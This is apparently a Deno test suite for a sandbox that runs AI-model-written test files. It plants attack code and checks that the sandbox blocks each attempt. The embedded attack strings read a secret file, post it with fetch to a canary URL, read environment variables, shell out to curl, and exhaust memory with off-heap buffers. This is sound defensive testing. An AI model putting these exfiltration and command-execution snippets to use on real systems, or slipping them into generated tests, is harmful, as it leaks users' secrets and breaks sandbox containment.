/**
 * Attacks a model-written test file makes from inside the generated-test sandbox, each against
 * the canary (a loopback server and a secret file outside the workspace): reading the secret by
 * static import, dynamic import or the file API, posting it, reading the environment, running a
 * program, and growing its resident memory past the RSS cap with off-heap buffers.
 */
import assert from "node:assert/strict";
import { type Canary, startCanary } from "../testing/canary.ts";
import { runGeneratedTests, type TestRunReport } from "./test_runner.ts";

/** Plants `body` as learned_skills/tests/attack_test.ts and runs it in the sandbox. */
async function runAttack(
  body: string,
  options: { rssMb?: number; heapMb?: number } = {},
): Promise<TestRunReport> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "evo_attack_" }));
  try {
    await Deno.mkdir(`${root}/learned_skills/tests`, { recursive: true });
    const file = `${root}/learned_skills/tests/attack_test.ts`;
    await Deno.writeTextFile(file, body);
    return await runGeneratedTests(file, {
      learnedSkillsDir: `${root}/learned_skills`,
      scratchRoot: `${root}/state`,
      ...options,
    });
  } finally {
    await Deno.remove(root, { recursive: true });
  }
}

function assertNothingLeaked(c: Canary, r: TestRunReport): void {
  assert.deepEqual(c.hits, [], "the canary server was never reached");
  assert.ok(!JSON.stringify(r).includes(c.secret), "the secret is not in the report");
}

Deno.test("a generated test cannot read a secret file by static import", async () => {
  await using c = await startCanary();
  const r = await runAttack(
    `import secret from ${JSON.stringify(c.secretJson)} with { type: "json" };\n` +
      `import assert from "node:assert/strict";\n` +
      `Deno.test("leak", () => assert.equal(secret.token, "x"));\n`,
  );
  assertNothingLeaked(c, r);
  assert.equal(r.ok, false);
  assert.equal(r.tests.length, 0, "the module never loaded");
  assert.match(r.error ?? "", /Requires read access/);
});

Deno.test("a generated test cannot read, import or post a secret file at run time", async () => {
  await using c = await startCanary();
  const r = await runAttack(
    `const post = (s: string) => fetch(${
      JSON.stringify(c.url)
    } + "?s=" + encodeURIComponent(s));\n` +
      `Deno.test("file api", async () => { await post(await Deno.readTextFile(${
        JSON.stringify(c.secretText)
      })); });\n` +
      `Deno.test("import()", async () => { const p = ${JSON.stringify(c.secretJson)};\n` +
      `  await post(JSON.stringify((await import(p, { with: { type: "json" } })).default)); });\n` +
      `Deno.test("post", async () => { await post("hello"); });\n`,
  );
  assertNothingLeaked(c, r);
  assert.deepEqual(r.tests.map((t) => [t.name, t.passed]), [
    ["file api", false],
    ["import()", false],
    ["post", false],
  ]);
  for (const t of r.tests) assert.match(t.failure ?? "", /NotCapable|Requires (read|net) access/);
});

Deno.test("a generated test gets no environment and cannot run programs", async () => {
  await using c = await startCanary();
  const r = await runAttack(
    `Deno.test("env", () => { Deno.env.toObject(); });\n` +
      `Deno.test("process env", async () => { (await import("node:process")).env.HOME; });\n` +
      `Deno.test("curl", async () => {\n` +
      `  await new Deno.Command("/bin/sh", { args: ["-c", "curl " + ${
        JSON.stringify(c.url)
      }] }).output(); });\n` +
      `Deno.test("child_process", async () => {\n` +
      `  (await import("node:child_process")).execFileSync("/bin/sh", ["-c", "curl " + ${
        JSON.stringify(c.url)
      }]); });\n`,
  );
  assertNothingLeaked(c, r);
  assert.deepEqual(r.tests.map((t) => t.passed), [false, false, false, false]);
  assert.match(r.tests[0]?.failure ?? "", /Requires env access/);
  assert.match(r.tests[2]?.failure ?? "", /Requires run access/);
});

Deno.test("a generated test that grows past the RSS cap off-heap is killed", async () => {
  const r = await runAttack(
    `Deno.test("bomb", () => {\n  const kept: Uint8Array[] = [];\n` +
      `  for (let i = 0; i < 64; i++) kept.push(new Uint8Array(16 << 20).fill(1));\n` +
      `  console.log(kept.length);\n});\n`,
    { rssMb: 256, heapMb: 128 },
  );
  assert.equal(r.ok, false);
  assert.equal(r.killed, "rss_limit");
  assert.match(r.error ?? "", /resident memory over 256 MB/);
});
